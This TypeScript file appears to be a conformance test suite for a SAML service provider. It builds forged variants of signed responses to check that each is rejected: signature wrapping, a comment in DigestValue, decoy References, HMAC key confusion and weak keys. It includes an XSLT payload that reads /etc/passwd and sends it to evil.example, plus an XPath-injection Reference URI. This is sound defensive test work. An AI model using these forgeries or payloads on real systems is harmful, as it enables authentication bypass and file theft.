// Attacks on the signature itself, each on a genuinely signed response: a comment in
// DigestValue (row 15, CVE-2025-29775), a second or wrapped SignedInfo (row 16, CVE-2025-29774,
// xml-crypto's fixtures), a decoy Reference for a `//ds:DigestValue` selector (row 19,
// ruby-saml CVE-2024-45409), an XSLT transform (row 25, SAML Raider), Reference URI games
// (row 26), an HMAC keyed with the IdP's public certificate (row 27); and the keys and
// algorithms: an attacker's certificate in KeyInfo (row 17), a key the SP never saw (row 18),
// SHA-1 and RSA-1024 (row 28). The attacker's content is the impersonating assertion of
// dom-edit; forged digests are the real digests of it.
import { createHmac } from 'node:crypto';
import type { ErrorCode } from '../../errors.js';
import { firstChild } from '../dom.js';
import { ALGORITHM, NS, REFUSED_ALGORITHM } from '../urn.js';
import {
  assertionIn,
  canonicalForm,
  coveringSignature,
  digestMethodOf,
  digestOf,
  digestValueIn,
  EVIL_ID,
  impersonate,
  referenceIn,
  referenceOf,
  required,
  resignAll,
  setText,
  signatureIn,
  signedInfoIn,
  withoutSignature,
} from './dom-edit.js';
import { attackOn, fromSpec, genuine, reject, withSigning } from './spec-edit.js';
import type { ResponseScenario } from './types.js';

// Attack payload URIs, deliberately not in urn.ts: the SP never accepts them.

type ResponseEdit = (response: Element, doc: Document) => void;

/** Row 15: the SignedInfo keeps the genuine digest as text; a comment before it holds the forged one. */
const commentInDigestValue: ResponseEdit = (response, doc) => {
  const signature = coveringSignature(response);
  impersonate(assertionIn(response));
  const reference = referenceIn(signature);
  const value = digestValueIn(reference);
  const original = value.textContent ?? '';
  const forged = digestOf(signature.parentNode as Element, digestMethodOf(reference));
  while (value.firstChild) value.removeChild(value.firstChild);
  value.appendChild(doc.createComment(forged));
  value.appendChild(doc.createTextNode(original));
};

/**
 * Row 16, xml-crypto saml_multiple_signed_info_nodes / saml_wrapped_signed_info_node: the
 * assertion edited under a new ID, its Signature given a second SignedInfo (bare or in a
 * WRAPPER) that references it with a true digest; the genuine assertion in a foreign element.
 */
function secondSignedInfo(wrapped: boolean): ResponseEdit {
  return (response, doc) => {
    const assertion = assertionIn(response);
    const signature = signatureIn(assertion);
    const signedInfo = signedInfoIn(assertion);
    const original = withoutSignature(assertion);
    assertion.setAttribute('ID', EVIL_ID);
    impersonate(assertion);
    const evilInfo = doc.createElementNS(NS.dsig, 'ds:SignedInfo');
    const reference = referenceOf(signedInfo).cloneNode(true) as Element;
    reference.setAttribute('URI', `#${EVIL_ID}`);
    setText(digestValueIn(reference), digestOf(assertion, digestMethodOf(reference)));
    evilInfo.appendChild(reference);
    if (wrapped) {
      const wrapper = doc.createElementNS(null, 'WRAPPER');
      wrapper.appendChild(evilInfo);
      signature.insertBefore(wrapper, signedInfo);
    } else {
      signature.insertBefore(evilInfo, signedInfo.nextSibling);
    }
    const holder = doc.createElementNS(null, 'a');
    holder.appendChild(original);
    response.appendChild(holder);
  };
}

/** Row 19: a decoy Reference in samlp:Extensions, earlier in the document, with the edited assertion's digest. */
const decoyReference: ResponseEdit = (response, doc) => {
  const assertion = assertionIn(response);
  const reference = referenceIn(signatureIn(assertion));
  impersonate(assertion);
  const decoy = doc.createElementNS(NS.dsig, 'ds:Reference');
  decoy.setAttribute('URI', reference.getAttribute('URI') ?? '');
  const method = doc.createElementNS(NS.dsig, 'ds:DigestMethod');
  method.setAttribute('Algorithm', digestMethodOf(reference));
  const value = doc.createElementNS(NS.dsig, 'ds:DigestValue');
  value.appendChild(doc.createTextNode(digestOf(assertion, digestMethodOf(reference))));
  decoy.appendChild(method);
  decoy.appendChild(value);
  const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
  extensions.appendChild(decoy);
  response.insertBefore(extensions, required(firstChild(response, NS.protocol, 'Status'), 'a Status'));
};

/** Row 25, SAML Raider's XSLT payload: read a local file and send it to the attacker while verifying. */
const xsltTransform: ResponseEdit = (response, doc) => {
  const transforms = required(firstChild(referenceIn(coveringSignature(response)), NS.dsig, 'Transforms'), 'ds:Transforms');
  const xsl = (name: string, attrs: Record<string, string>): Element => {
    const e = doc.createElementNS(NS.xsl, `xsl:${name}`);
    for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v);
    return e;
  };
  const template = xsl('template', { match: 'doc' });
  template.appendChild(xsl('variable', { name: 'file', select: "unparsed-text('/etc/passwd')" }));
  template.appendChild(xsl('variable', { name: 'escaped', select: 'encode-for-uri($file)' }));
  template.appendChild(xsl('value-of', { select: "unparsed-text(concat('https://evil.example/', $escaped))" }));
  const stylesheet = xsl('stylesheet', { version: '1.0' });
  stylesheet.appendChild(template);
  const transform = doc.createElementNS(NS.dsig, 'ds:Transform');
  transform.setAttribute('Algorithm', REFUSED_ALGORITHM.xslt);
  transform.appendChild(stylesheet);
  transforms.insertBefore(transform, transforms.firstChild);
};

function referenceUri(uri: (original: string) => string): ResponseEdit {
  return (response) => {
    const reference = referenceIn(coveringSignature(response));
    reference.setAttribute('URI', uri(reference.getAttribute('URI') ?? ''));
  };
}

/** Row 27: re-"signs" a signature with HMAC-SHA1 keyed with the IdP's public certificate (PEM). */
function hmacResign(signature: Element, key: string): void {
  const signedInfo = required(firstChild(signature, NS.dsig, 'SignedInfo'), 'a SignedInfo');
  const reference = referenceOf(signedInfo);
  setText(digestValueIn(reference), digestOf(signature.parentNode as Element, digestMethodOf(reference)));
  required(firstChild(signedInfo, NS.dsig, 'SignatureMethod'), 'a SignatureMethod').setAttribute('Algorithm', REFUSED_ALGORITHM.hmacSha1);
  const value = createHmac('sha1', key).update(canonicalForm(signedInfo), 'utf8').digest('base64');
  setText(required(firstChild(signature, NS.dsig, 'SignatureValue'), 'a SignatureValue'), value);
}

function hmacKeyConfusion(certificatePem: string): ResponseEdit {
  return (response) => {
    const assertion = assertionIn(response);
    impersonate(assertion);
    // The assertion first: a Response digest covers the assertion's signature.
    const assertionSignature = firstChild(assertion, NS.dsig, 'Signature');
    if (assertionSignature) hmacResign(assertionSignature, certificatePem);
    const responseSignature = firstChild(response, NS.dsig, 'Signature');
    if (responseSignature) hmacResign(responseSignature, certificatePem);
  };
}

/** An attack edit on the genuine response; `onSignedAssertion` forces the assertion signed. */
function attack(id: string, row: number, title: string, code: ErrorCode, edit: ResponseEdit, onSignedAssertion = false): ResponseScenario {
  return {
    id,
    title,
    row,
    kind: 'attack',
    expect: reject(code),
    build: (ctx) => ({ xml: attackOn(ctx.spec, edit, onSignedAssertion ? { assertion: true } : {}) }),
  };
}

export const SIGNATURE_GAME_SCENARIOS: readonly ResponseScenario[] = [
  attack('digest-value-comment', 15, 'DigestValue holds the forged digest in a comment before the genuine one (CVE-2025-29775)', 'SAML_XML_FORBIDDEN', commentInDigestValue),
  // Both keep the genuine assertion in a foreign element, so the assertion count answers first.
  attack('two-signed-info', 16, 'A second SignedInfo references the edited assertion; the signed original hides in a foreign element (CVE-2025-29774)', 'SAML_ASSERTION_COUNT', secondSignedInfo(false), true),
  attack('wrapped-signed-info', 16, 'A SignedInfo wrapped in a WRAPPER element references the edited assertion (CVE-2025-29774)', 'SAML_ASSERTION_COUNT', secondSignedInfo(true), true),
  {
    id: 'keyinfo-attacker-cert',
    title: "The edited response re-signed by the attacker, with the attacker's certificate in KeyInfo (CVE-2024-32962)",
    row: 17,
    kind: 'attack',
    expect: reject('SAML_SIGNATURE_UNTRUSTED'),
    build: (ctx) => {
      const edited = attackOn(ctx.spec, (response) => impersonate(assertionIn(response)));
      return { xml: resignAll(edited, ctx.attackerKey, ctx.spec.signing.algorithm) };
    },
  },
  {
    id: 'signed-by-unknown-key',
    title: 'The genuine content signed by a key that is not in the IdP metadata the SP imported',
    row: 18,
    kind: 'fault',
    expect: reject('SAML_SIGNATURE_UNTRUSTED'),
    build: (ctx) => ({ xml: genuine(withSigning(ctx.spec, { key: ctx.attackerKey })) }),
  },
  attack('xpath-decoy-digest', 19, 'A decoy Reference in samlp:Extensions carries the digest of the edited assertion (CVE-2024-45409)', 'SAML_SIGNATURE_INVALID', decoyReference, true),
  attack('xslt-transform', 25, 'An XSLT transform that reads /etc/passwd and sends it to the attacker during verification', 'SAML_SIGNATURE_SHAPE', xsltTransform),
  attack('reference-uri-empty', 26, 'The Reference URI is "" (the whole document) instead of the signed element', 'SAML_SIGNATURE_SHAPE', referenceUri(() => '')),
  attack('reference-uri-quotes', 26, "The Reference URI injects an XPath predicate: #id' or '1'='1", 'SAML_SIGNATURE_SHAPE', referenceUri((uri) => `${uri}' or '1'='1`)),
  {
    id: 'hmac-key-confusion',
    title: 'The edited response "signed" with HMAC-SHA1 keyed with the IdP public certificate',
    row: 27,
    kind: 'attack',
    expect: reject('SAML_SIGNATURE_ALGORITHM'),
    build: (ctx) => ({ xml: attackOn(ctx.spec, hmacKeyConfusion(ctx.spec.signing.key.certificatePem)) }),
  },
  {
    id: 'sha1-only',
    title: 'Signed with rsa-sha1 and a sha1 digest (an IdP that only offers SHA-1)',
    row: 28,
    kind: 'fault',
    expect: reject('SAML_SIGNATURE_ALGORITHM'),
    build: fromSpec((spec) => withSigning(spec, { algorithm: ALGORITHM.rsaSha1 })),
  },
  // The SP refuses a pinned key under 2048 bits at signature-algorithm; this key is not pinned
  // (the metadata names the IdP's real key), so the SP answers that it does not verify.
  {
    id: 'weak-key-1024',
    title: 'Signed with an RSA-1024 key, with its certificate in KeyInfo',
    row: 28,
    kind: 'attack',
    expect: reject('SAML_SIGNATURE_UNTRUSTED'),
    build: (ctx) => ({ xml: genuine(withSigning(ctx.spec, { key: ctx.weakKey })) }),
  },
];
